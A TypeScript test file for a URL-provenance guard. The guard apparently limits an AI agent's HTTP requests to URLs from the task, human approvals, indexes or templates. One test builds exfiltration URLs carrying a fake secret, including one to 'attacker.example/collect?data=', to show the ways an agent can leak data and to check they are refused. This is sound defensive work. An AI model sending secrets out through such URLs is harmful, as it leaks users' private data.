import { expect, test } from 'vitest'
import type { HttpRequestAction } from '../../core/action.ts'
import type { ProvenancePlan } from '../../wire/provenance.ts'
import { extractUrls, UrlExtractor } from './extract-urls.ts'
import { ProvenanceState } from './provenance-state.ts'
import { UrlLedger } from './url-ledger.ts'

const PLAN: ProvenancePlan = {
  rules: ['docs'],
  indexes: ['docs'],
  private: ['tickets'],
  startsPrivate: false,
  templates: ['https://api.example/v1/items/{id:int}'],
  taskUrls: [...extractUrls('Summarise https://docs.example/start, please')],
}
/** made up, and long enough to be worth stealing */
const SECRET = Buffer.from(`not-a-real-key-${'x1'.repeat(12)}`).toString('base64')

function get(url: string, method = 'GET'): HttpRequestAction {
  const { hostname: host, pathname: path, search } = new URL(url)
  const query = search === '' ? null : search.slice(1)
  return { kind: 'http.request', scheme: 'https', method, host, port: 443, path, query }
}

function stateOf(plan: Partial<ProvenancePlan> = {}): ProvenanceState {
  return new ProvenanceState({ ...PLAN, ...plan })
}

const decide = (state: ProvenanceState, url: string, rules = ['docs']): string => {
  const decided = state.decide(get(url), rules)
  return decided.kind === 'deny' ? decided.rules.join() : decided.kind
}

function readIndex(state: ProvenanceState, html: string): void {
  state.apply({ type: 'reply', rules: ['docs'] })
  const extractor = new UrlExtractor('https://docs.example/start')
  const urls = [...extractor.push(new TextEncoder().encode(html)), ...extractor.end()]
  state.apply({ type: 'links', rules: ['docs'], urls })
}

test('what stood in the task is known, and what the model makes of it is not', () => {
  const state = stateOf()
  expect(state.decide(get('https://docs.example/start'), ['docs'])).toEqual({
    kind: 'known',
    origin: 'task',
  })
  expect(decide(state, 'https://docs.example/start?x')).toBe('provenance.unknown-url')
  expect(decide(state, 'https://docs.example/Start')).toBe('provenance.unknown-url')
})

test('links of an index are known before private data comes in, and no new ones after', () => {
  const state = stateOf()
  readIndex(state, '<a href="/a">')
  expect(decide(state, 'https://docs.example/a')).toBe('known')
  state.apply({ type: 'reply', rules: ['tickets'] })
  readIndex(state, '<a href="/b">')
  expect(decide(state, 'https://docs.example/b')).toBe('provenance.unknown-url')
  expect(decide(state, 'https://docs.example/a')).toBe('known')
})

test('links of a reply that private data has overtaken are not known', () => {
  const state = stateOf()
  state.apply({ type: 'reply', rules: ['docs'] })
  state.apply({ type: 'private' })
  state.apply({ type: 'links', rules: ['docs'], urls: ['https://docs.example/late'] })
  expect(decide(state, 'https://docs.example/late')).toBe('provenance.unknown-url')
})

test('links of what is no index are not known', () => {
  const state = stateOf()
  state.apply({ type: 'links', rules: ['other'], urls: ['https://docs.example/x'] })
  expect(decide(state, 'https://docs.example/x')).toBe('provenance.unknown-url')
})

test('a session that starts private learns from people alone', () => {
  const state = stateOf({ startsPrivate: true })
  readIndex(state, '<a href="/a">')
  state.apply({ type: 'approved', url: 'https://docs.example/b' })
  expect(decide(state, 'https://docs.example/a')).toBe('provenance.unknown-url')
  expect(decide(state, 'https://docs.example/b')).toBe('known')
})

test('where a known URL leads is known, private or not; where an unknown one leads is not', () => {
  const state = stateOf({ startsPrivate: true })
  const to = ['https://docs.example/v2/start']
  state.apply({ type: 'redirect', from: get('https://docs.example/other'), to })
  expect(decide(state, 'https://docs.example/v2/start')).toBe('provenance.unknown-url')
  state.apply({ type: 'redirect', from: get('https://docs.example/start', 'POST'), to })
  expect(decide(state, 'https://docs.example/v2/start')).toBe('provenance.unknown-url')
  state.apply({ type: 'redirect', from: get('https://docs.example/start'), to })
  expect(decide(state, 'https://docs.example/v2/start')).toBe('known')
})

test('where a URL of a template leads is not known: its server may have learned something', () => {
  const state = stateOf()
  state.apply({
    type: 'redirect',
    from: get('https://api.example/v1/items/42'),
    to: ['https://docs.example/42'],
  })
  expect(decide(state, 'https://docs.example/42')).toBe('provenance.unknown-url')
})

test('a URL of a template passes with what it can say', () => {
  expect(stateOf().decide(get('https://api.example/v1/items/42'), ['docs'])).toEqual({
    kind: 'template',
    source: 'https://api.example/v1/items/{id:int}',
    bits: expect.closeTo(40, 0),
  })
})

test('one checked rule among those that allow a request is enough', () => {
  expect(decide(stateOf(), 'https://docs.example/x', ['free', 'docs'])).toBe(
    'provenance.unknown-url',
  )
  expect(decide(stateOf(), 'https://docs.example/x', ['free'])).toBe('unchecked')
  expect(decide(stateOf({ rules: 'all' }), 'https://docs.example/x', ['free'])).toBe(
    'provenance.unknown-url',
  )
})

test.for([
  ['in a query', `https://docs.example/start?q=${encodeURIComponent(SECRET)}`],
  ['in a path', `https://docs.example/a/${SECRET.replaceAll('/', '_')}`],
  ['in place of a number', `https://api.example/v1/items/${SECRET.replaceAll('/', '_')}`],
  ['after a number', `https://api.example/v1/items/42?x=${encodeURIComponent(SECRET)}`],
  [
    'at a host of the attacker',
    `https://attacker.example/collect?data=${encodeURIComponent(SECRET)}`,
  ],
] as const)('a secret %s is refused', ([, url]) => {
  const state = stateOf({ rules: 'all' })
  readIndex(state, '<a href="/a">')
  expect(decide(state, url)).toBe('provenance.unknown-url')
})

test('the reason says how far the nearest template goes along', () => {
  const denied = stateOf().decide(get('https://api.example/v1/items/abc'), ['docs'])
  expect(denied).toEqual({
    kind: 'deny',
    rules: ['provenance.unknown-url'],
    reason:
      'https://api.example/v1/items/abc is of unknown origin: it has stood in no task, no approval and no index so far; the nearest template https://api.example/v1/items/{id:int} goes along up to `/v1/items/`',
  })
})

test('a full ledger learns no more from indexes and still from people, and says what it left out', () => {
  const state = new ProvenanceState({ ...PLAN, taskUrls: [] }, new UrlLedger(100))
  const urls = Array.from({ length: 200 }, (_, i) => `https://docs.example/${i}`)
  state.apply({ type: 'links', rules: ['docs'], urls })
  expect(state.counters()).toEqual({ known: 50, leftOut: 150 })
  expect(decide(state, 'https://docs.example/49')).toBe('known')
  expect(decide(state, 'https://docs.example/50')).toBe('provenance.unknown-url')
  state.apply({ type: 'approved', url: 'https://docs.example/50' })
  expect(decide(state, 'https://docs.example/50')).toBe('known')
})
